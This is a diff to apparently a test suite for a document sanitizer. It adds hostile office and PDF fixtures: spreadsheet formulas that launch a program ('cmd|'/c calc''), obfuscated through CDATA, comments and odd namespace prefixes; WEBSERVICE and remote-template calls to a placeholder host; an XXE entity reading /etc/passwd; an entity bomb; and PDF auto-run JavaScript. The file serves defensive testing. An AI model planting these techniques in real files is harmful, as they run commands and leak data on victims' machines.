@@ -112,6 +112,13 @@ const wordField = (instruction: string) => {
 const docxWith = (parts: Parts, ...inside: Relation[]) =>
   docx({ 'word/_rels/document.xml.rels': relations(...inside), ...parts })
 
+/** A workbook whose sheet lies where its relation says. */
+const elsewhere = (part: string, formula: string) =>
+  xlsx({
+    'xl/_rels/workbook.xml.rels': relations(['worksheet', `/${part}`]),
+    [part]: `<worksheet><sheetData><row r="1"><c r="A1"><f>${formula.replaceAll('"', '&quot;')}</f></c></row></sheetData></worksheet>`,
+  })
+
 const ENTITIES = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "${'x'.repeat(100)}"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document xmlns:w="w">&b;</w:document>`
 const FOREIGN =
   '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><w:document xmlns:w="w">&f;</w:document>'
@@ -390,6 +397,92 @@ export const HOSTILE: readonly HostileFile[] = [
     becomes: refused('macros'),
   },
   {
+    about: 'a sheet outside the folder of sheets, with a cell that starts a program',
+    name: 'plan.xlsx',
+    make: () => elsewhere('xl/data/s1.xml', "cmd|'/c calc'!A1"),
+    becomes: refused('macros'),
+  },
+  {
+    about: 'a sheet outside the folder of sheets, with a cell that asks a server',
+    name: 'plan.xlsx',
+    make: () => elsewhere('xl/data/s1.xml', 'WEBSERVICE("http://test.invalid/")'),
+    becomes: refused('macros'),
+  },
+  {
+    about: 'a sheet outside the workbook',
+    name: 'plan.xlsx',
+    make: () => elsewhere('data/s1.xml', '1+1'),
+    becomes: refused('broken'),
+  },
+  {
+    about: 'a cell that starts a program, in a section of plain characters',
+    name: 'plan.xlsx',
+    make: () => xlsx({}, '<c r="A1"><f><![CDATA[cmd|\'/c calc\'!A0]]></f></c>'),
+    becomes: refused('macros'),
+  },
+  {
+    about: 'a cell that starts a program, around a remark',
+    name: 'plan.xlsx',
+    make: () => xlsx({}, '<c r="A1"><f>cmd|<!-- -->\'/c calc\'!A0</f></c>'),
+    becomes: refused('macros'),
+  },
+  {
+    about: 'a cell that starts a program, under a prefix in other letters',
+    name: 'plan.xlsx',
+    make: () => xlsx({}, '<c r="A1"><ә:f>cmd|\'/c calc\'!A0</ә:f></c>'),
+    becomes: refused('macros'),
+  },
+  {
+    about: 'a column that asks a server',
+    name: 'plan.xlsx',
+    make: () =>
+      xlsx({
+        'xl/tables/table1.xml':
+          '<table><calculatedColumnFormula>WEBSERVICE("http://test.invalid/")</calculatedColumnFormula></table>',
+      }),
+    becomes: refused('macros'),
+  },
+  {
+    about: 'a template from elsewhere, by a relation in capitals',
+    name: 'plan.docx',
+    make: () =>
+      docx({
+        'word/settings.xml': '<w:settings xmlns:w="w"/>',
+        'word/_rels/settings.xml.RELS': relations(['attachedTemplate', 'http://test.invalid/a.dotm', true]),
+      }),
+    becomes: refused('external'),
+  },
+  {
+    about: 'a relation whose name is written in numbers',
+    name: 'plan.docx',
+    make: () =>
+      docx({
+        'word/_rels/settings.xml.rel%73': relations(['attachedTemplate', 'http://test.invalid/a', true]),
+      }),
+    becomes: refused('broken'),
+  },
+  {
+    about: 'who wrote it, under names in other letters and places',
+    name: 'plan.docx',
+    make: () =>
+      docx({
+        'docprops/Core2.xml': `<cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:creator>${MARKER}</dc:creator></cp:coreProperties>`,
+        'docMetadata/LabelInfo.xml': `<clbl:labelList xmlns:clbl="c"><clbl:label id="${MARKER}"/></clbl:labelList>`,
+        'Word/People.xml': `<w15:people xmlns:w15="w"><w15:person w15:author="${MARKER}"/></w15:people>`,
+      }),
+    becomes: kept('docx'),
+  },
+  {
+    about: 'who commented, in a part of another name',
+    name: 'plan.xlsx',
+    make: () =>
+      xlsx({
+        'xl/said/1.xml': `<comments><authors><author>${MARKER}</author></authors></comments>`,
+        'xl/said/2.xml': `<personList><person displayName="${MARKER}" userId="${MARKER}"/></personList>`,
+      }),
+    becomes: kept('xlsx'),
+  },
+  {
     about: 'a cell that starts a program, in a table',
     name: 'a.csv',
     make: () => CSV("=cmd|'/c calc'!A0"),
@@ -604,6 +697,28 @@ export const HOSTILE: readonly HostileFile[] = [
     make: () =>
       onePage({
         catalog: '/OpenAction 6 0 R/Names<</JavaScript<</Names[(a) 6 0 R]>>>>/AA<</WC 6 0 R>>',
+        more: [`<</S/JavaScript/JS(app.alert\\('${MARKER}'\\))>>`],
+      }),
+    becomes: kept('pdf'),
+  },
+  {
+    about: 'scripts of a page that the names of a PDF name too',
+    name: 'a.pdf',
+    make: () =>
+      onePage({
+        catalog: '/Dests 3 0 R',
+        page: '/AA<</O 6 0 R>>',
+        more: [`<</S/JavaScript/JS(app.alert\\('${MARKER}'\\))>>`],
+      }),
+    becomes: kept('pdf'),
+  },
+  {
+    about: 'scripts of a page in a list of fonts',
+    name: 'a.pdf',
+    make: () =>
+      onePage({
+        catalog: '/PageLabels<</Font[3 0 R]>>',
+        page: '/AA<</O 6 0 R>>',
         more: [`<</S/JavaScript/JS(app.alert\\('${MARKER}'\\))>>`],
       }),
     becomes: kept('pdf'),
